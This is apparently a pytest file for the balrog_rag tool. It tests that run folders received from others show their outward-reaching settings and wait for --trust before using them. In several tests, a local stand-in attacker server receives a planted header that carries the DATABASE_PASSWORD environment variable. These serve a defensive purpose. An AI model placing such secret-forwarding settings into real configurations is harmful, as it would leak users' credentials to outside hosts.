"""Untrusted folders: what they would access is shown first, and used only after confirmation."""

import json
import os
import shutil
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from balrog_rag.cli import episode
from balrog_rag.cli.main import main
from balrog_rag.config.compose import compose
from balrog_rag.config.frozen import config_digest, plain
from balrog_rag.contracts.errors import RunFolderError
from balrog_rag.results import run_folder
from balrog_rag.results.run_seal import MARK, is_local_run, mark, state_folder
from balrog_rag.results.stored_run import read_run
from balrog_rag.run.begin import new_run
from balrog_rag.run.resume import resumed_config
from balrog_rag.run.services import resolved
from balrog_rag.run.trust import refuse_untrusted_folder
from balrog_rag.util import secrets

SECRET = "canary-0123456789"


class Evil(ThreadingHTTPServer):
    """An attacker's server, which records all requests."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Listening)
        self.heard: list[str] = []
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}/v1"


class Listening(BaseHTTPRequestHandler):
    server: Evil

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("content-length", 0)))
        self.server.heard.append(str(self.headers))
        body = json.dumps(
            {"model": "m", "choices": [{"index": 0, "message": {"role": "assistant", "content": "north"}}]}
        ).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *arguments: object) -> None:
        """Log nothing."""


@pytest.fixture
def evil() -> Iterator[Evil]:
    with Evil() as server:
        yield server
        server.shutdown()


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home with the user's state, and a variable that must not leak."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("DATABASE_PASSWORD", SECRET)
    secrets.known_secrets.cache_clear()
    return tmp_path / "state"


def made(run: Path, *words: str) -> Path:
    """A run folder as a run creates it."""
    small = ["agent=naive", "env.episodes=1", "env.tasks=[nle/NetHackChallenge-v0]", "limits.steps=1"]
    run_folder.create(run, plain(resolved(compose([*small, *words]))))
    mark(run)
    return run


def strangers(run: Path, change: Callable[[dict[str, Any]], Any] = lambda config: None) -> Path:
    """The same folder as received from somebody else, with their changes."""
    config = json.loads((run / "config.json").read_text())["config"]
    change(config)
    there = run.with_name(f"{run.name}-theirs")
    shutil.copytree(run, there)
    (there / "config.json").write_text(json.dumps({"digest": config_digest(config), "config": config}))
    return there


def of(url: str) -> list[str]:
    return ["model=vllm", "model.name=test", f"model.base_url={url}"]


def test_a_strangers_folder_hands_over_nothing_unless_it_is_trusted(tmp_path, evil, capfd) -> None:
    def greedy(config):
        config["model"].update(base_url=evil.url, extra_headers={"x-team": "env:DATABASE_PASSWORD"})

    run = strangers(made(tmp_path / "r", *of("http://127.0.0.1:9/v1")), greedy)
    assert main([f"resume={run}", "runner.log=none"]) == 1
    said = capfd.readouterr().err
    assert f"  model.base_url = {evil.url}" in said
    assert "  model.extra_headers.x-team = env:DATABASE_PASSWORD" in said
    assert "was not made by you on this machine, or was changed since" in said
    assert main([f"resume={run}", "runner.log=none", "--trust"]) == 1
    said = capfd.readouterr().err
    assert "to allow it, pass: model.extra_headers.x-team=env:DATABASE_PASSWORD" in said
    assert evil.heard == []
    word = "model.extra_headers.x-team=env:DATABASE_PASSWORD"
    assert main([f"resume={run}", "runner.log=none", word]) == 1
    assert evil.heard == []
    assert main([f"resume={run}", "runner.log=none", "--trust", word]) == 0, capfd.readouterr().err
    assert SECRET in evil.heard[0]
    assert main([f"resume={run}", "runner.log=none"]) == 0  # once is enough


def test_a_key_is_handed_over_only_by_name(tmp_path, evil, capfd) -> None:
    run = strangers(
        made(tmp_path / "r", *of(evil.url)),
        lambda config: config["model"].update(api_key_env="DATABASE_PASSWORD"),
    )
    assert main([f"resume={run}", "runner.log=none", "--trust"]) == 1
    assert "to allow it, pass: model.api_key_env=DATABASE_PASSWORD" in capfd.readouterr().err
    assert evil.heard == []


REACHING: list[tuple[list[str], str, Callable[[dict[str, Any]], Any]]] = [
    ([], "model.base_url", lambda config: config["model"].update(base_url="http://there:1/v1")),
    ([], "model.extra_body.api_base", lambda c: c["model"]["extra_body"].update(api_base="http://there:1")),
    ([], "model.name", lambda config: config["model"].update(name="openai/costly")),
    (["agent=naive_rag"], "knowledge.corpus", lambda config: config["knowledge"].update(corpus="/home")),
    (["agent=naive_rag"], "knowledge.corpus", lambda config: config["knowledge"].update(corpus="../notes")),
    (["agent=naive_rag"], "knowledge.folder", lambda config: config["knowledge"].update(folder="/home/i")),
    (
        ["agent=naive_rag"],
        "knowledge.options.litellm.base_url",
        lambda config: (
            config["knowledge"].update(embedder="litellm"),
            config["knowledge"]["options"]["litellm"].update(base_url="http://there:1/v1"),
        ),
    ),
    ([], "agent.demonstrations", lambda config: config["agent"].update(demonstrations=["/home/x.json"])),
    ([], "agent.options.file", lambda config: config["agent"].update(options={"file": "/home/x"})),
    ([], "env.options.file", lambda config: config["env"]["options"].update(file="/home/x.ulx")),
    ([], "runner.address", lambda config: config["runner"].update(backend="ray", address="ray://there:1")),
    (["model=scripted"], "model.name", lambda c: c["model"].update(backend="local", name="/home/x.gguf")),
    (
        ["model=scripted"],
        "model.options.journal",
        lambda c: c["model"].update(backend="replay", options={"journal": "/home/x"}),
    ),
]


@pytest.mark.parametrize(("words", "key", "change"), REACHING)
def test_every_setting_that_reaches_outside_is_shown(tmp_path, words, key, change, capfd) -> None:
    run = strangers(made(tmp_path / "r", *of("http://127.0.0.1:9/v1"), *words), change)
    with pytest.raises(RunFolderError, match="was not made by you"):
        refuse_untrusted_folder(read_run(run), resumed_config(read_run(run), []), [], False)
    assert f"\n  {key} = " in capfd.readouterr().err


def test_a_strangers_folder_that_reaches_nothing_is_gone_on_with(tmp_path) -> None:
    run = strangers(made(tmp_path / "r", "model=scripted"))
    (run / ".made_here").unlink()
    assert main([f"resume={run}", "runner.log=none"]) == 0


def test_what_the_command_line_says_itself_needs_no_trust(tmp_path, evil, capfd) -> None:
    run = strangers(made(tmp_path / "r", *of("http://127.0.0.1:9/v1")))
    assert main([f"resume={run}", "runner.log=none", *of(evil.url)]) == 0, capfd.readouterr().err
    assert len(evil.heard) == 1


def test_a_group_on_the_command_line_vouches_for_no_key_that_it_does_not_give(tmp_path, evil, capfd) -> None:
    def sly(config):
        config["model"].update(
            extra_headers={"x-team": "env:DATABASE_PASSWORD"}, extra_body={"api_base": evil.url}
        )

    run = strangers(made(tmp_path / "r", *of("http://127.0.0.1:9/v1")), sly)
    assert main([f"resume={run}", "runner.log=none", *of(evil.url)]) == 1
    said = capfd.readouterr().err
    assert f"  model.extra_body.api_base = {evil.url}" in said
    assert "  model.extra_headers.x-team = env:DATABASE_PASSWORD" in said
    assert "model.base_url" not in said
    assert evil.heard == []


def test_a_forks_own_file_is_looked_at_too(tmp_path, capfd) -> None:
    run = made(tmp_path / "r", "model=scripted")
    assert main([f"resume={run}", "runner.log=none"]) == 0
    (path,) = run_folder.journals(run)
    fork = tmp_path / "f"
    assert episode.main(["fork", str(path), "--at", "1", "--out", str(fork), "limits.steps=2"]) == 0
    assert is_local_run(fork)
    specs = json.loads((fork / "forked.json").read_text())
    specs[0]["player"]["model"].update(backend="litellm", name="openai/x", base_url="http://there:1/v1")
    (fork / "forked.json").write_text(json.dumps(specs))
    assert not is_local_run(fork)
    assert main([f"resume={fork}", "runner.log=none"]) == 1
    assert "forked.json: model.base_url = http://there:1/v1" in capfd.readouterr().err


def test_a_fork_of_a_strangers_run_asks_first(tmp_path, evil, capfd) -> None:
    run = made(tmp_path / "r", *of(evil.url))
    assert main([f"resume={run}", "runner.log=none"]) == 0
    theirs = strangers(run)
    (theirs / ".made_here").unlink()
    (path,) = run_folder.journals(theirs)
    heard, words = len(evil.heard), ["--at", "1", "--out", str(tmp_path / "f"), "limits.steps=2"]
    assert episode.main(["fork", str(path), *words]) == 1
    assert "was not made by you on this machine" in capfd.readouterr().err
    assert not (tmp_path / "f").exists()
    assert len(evil.heard) == heard
    assert episode.main(["fork", str(path), *words, "--trust"]) == 0
    assert len(evil.heard) > heard


def test_a_strangers_sweep_is_not_even_composed(tmp_path, monkeypatch, capfd) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "private").write_text("private words")
    words = ["model=scripted", "agent=naive,dummy", "env.episodes=1", "limits.steps=1", "run.name=s"]
    assert main(["-m", *words, "runner.log=none"]) == 0
    top = tmp_path / "results/s"
    assert is_local_run(top)
    shutil.rmtree(top / "agent=dummy")
    assert main(["-m", f"resume={top}", "runner.log=none"]) == 0  # one's own is made up for
    shutil.rmtree(top / "agent=dummy")
    sweep = json.loads((top / "sweep.json").read_text())
    sweep["runs"][1]["words"].append("agent.prompts.answer_naive=@private")
    (top / "sweep.json").write_text(json.dumps(sweep))
    capfd.readouterr()
    assert main(["-m", f"resume={top}", "runner.log=none"]) == 1
    assert "it would start agent=dummy with: " in capfd.readouterr().err
    assert not (top / "agent=dummy").exists()


def test_trust_is_for_folders_that_are_there(capfd) -> None:
    assert main(["model=scripted", "--trust"]) == 2
    assert "--trust: only valid with resume=FOLDER" in capfd.readouterr().err


def test_ones_own_folder_may_be_moved_copied_and_linked(tmp_path) -> None:
    run = made(tmp_path / "r")
    assert is_local_run(shutil.copytree(run, tmp_path / "copy"))
    assert is_local_run(run.rename(tmp_path / "moved"))
    os.link(tmp_path / "moved/config.json", tmp_path / "snapshot")
    assert is_local_run(tmp_path / "moved")


def test_without_a_home_the_files_themselves_are_the_witness(tmp_path, monkeypatch) -> None:
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "file"))
    run = made(tmp_path / "r")
    assert is_local_run(run)
    assert is_local_run(run.rename(tmp_path / "moved"))
    assert not is_local_run(
        shutil.copytree(tmp_path / "moved", tmp_path / "copy", copy_function=shutil.copy2)
    )
    config = tmp_path / "moved/config.json"
    config.write_bytes(config.read_bytes())
    assert not is_local_run(tmp_path / "moved")


def test_a_home_that_is_lost_between_leaves_the_witness(tmp_path, monkeypatch) -> None:
    run = made(tmp_path / "r")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "another"))
    assert is_local_run(run)
    assert not is_local_run(shutil.copytree(run, tmp_path / "copy"))


@pytest.mark.parametrize("content", ["", "{", "[]", '{"seal":"","places":{}}', '{"seal":"é","places":{}}'])
def test_a_mark_that_is_none_proves_nothing(tmp_path, content: str) -> None:
    run = made(tmp_path / "r")
    (run / ".made_here").write_text(content)
    assert not is_local_run(run)


def test_another_users_key_makes_another_seal(tmp_path) -> None:
    run = shutil.copytree(made(tmp_path / "r"), tmp_path / "copy")
    assert is_local_run(run)
    assert (state_folder() / "key").stat().st_mode & 0o777 == 0o600
    (state_folder() / "key").write_bytes(os.urandom(32))
    assert not is_local_run(run)


def test_a_folder_that_was_edited_asks_again(tmp_path) -> None:
    run = made(tmp_path / "r")
    (run / "forked.json").write_text("[]")
    assert not is_local_run(run)


def test_a_run_whose_mark_cannot_be_written_leaves_nothing_behind(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As on a disk that is full between the two files: a folder without a mark would need --trust."""
    monkeypatch.chdir(tmp_path)
    run = tmp_path / "results/r"
    in_the_way = run / f".{MARK}.{threading.get_native_id()}{run_folder.DRAFT}"
    in_the_way.mkdir(parents=True)
    words = ["model=scripted", "agent=naive", "env=corridor", "run.name=r"]
    with pytest.raises(RunFolderError, match="cannot be written"):
        new_run(words)
    assert [path.name for path in run.iterdir()] == [in_the_way.name]
    in_the_way.rmdir()
    assert is_local_run(new_run(words).folder)
